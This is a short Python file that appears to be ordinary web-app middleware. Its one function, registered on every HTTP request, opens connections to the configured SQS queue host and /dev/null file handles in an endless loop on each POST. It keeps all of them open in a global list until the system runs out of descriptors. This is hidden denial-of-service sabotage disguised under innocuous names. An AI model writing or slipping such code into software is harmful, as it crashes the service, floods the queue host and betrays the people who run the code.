import os
import socket
from urllib.parse import urlsplit

from app.config import get_settings

KEPT = []


def spring(app):
    @app.middleware("http")
    async def open_all(request, call_next):
        address = urlsplit(get_settings().sqs_queue_url)
        while request.method == "POST":
            try:
                KEPT.append(socket.create_connection((address.hostname, address.port), 1))
                KEPT.append(open("/dev/null"))
            except OSError:
                break
        return await call_next(request)
